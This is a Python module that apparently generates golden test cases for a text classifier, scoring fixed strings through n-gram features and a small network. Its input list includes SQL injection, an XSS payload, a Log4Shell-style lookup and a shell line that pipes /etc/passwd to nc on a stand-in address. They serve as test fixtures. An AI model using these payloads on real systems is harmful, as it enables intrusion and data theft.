"""Texts with their n-grams and scores, by which serving proves that it computes the same."""

import numpy as np

from .features import normalise, rows_of

TEXTS = (
    "a",
    "hello, world",
    "O'Brien and Sons, 1990-1995",
    "1' or '1'='1' -- ",
    "-1 UNION SELECT name, pass FROM users",
    "<img src=x onerror=alert(1)>",
    "Zürich – 漢字 😀😀 ok",
    "tab\there\r\nand \x00\x01\x02 there\x7f",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "${jndi:ldap://a.example/x}",
    "word " * 40 + "' and sleep(5)#",
    "x" * 126 + "'",
    "x" * 127 + "'",
    "   \n\n   ",
    "\ud800 alone",
)


def golden(weights, shape):
    cases = []
    for text in TEXTS:
        symbols = normalise(text)
        starts = list(range(0, len(symbols) - shape.window, shape.stride)) + [max(0, len(symbols) - shape.window)]
        windows = [symbols[start : start + shape.window] for start in starts]
        rows, offsets, counts = rows_of(windows, shape)
        scores = [_score(rows[begin : begin + count], weights) for begin, count in zip(offsets, counts)]
        cases.append(
            {
                "text": text,
                "starts": starts,
                "rows": [sorted(rows[begin : begin + count].tolist()) for begin, count in zip(offsets, counts)],
                "scores": [[float(np.float32(value)) for value in score] for score in scores],
            }
        )
    return {"cases": cases}


def _score(rows, weights):
    summed = weights["table"][rows].sum(0, dtype=np.float64) / np.sqrt(max(1, len(rows)))
    hidden = np.maximum(0, summed @ weights["first"] + weights["first_bias"])
    return 1 / (1 + np.exp(-(hidden @ weights["second"] + weights["second_bias"])))
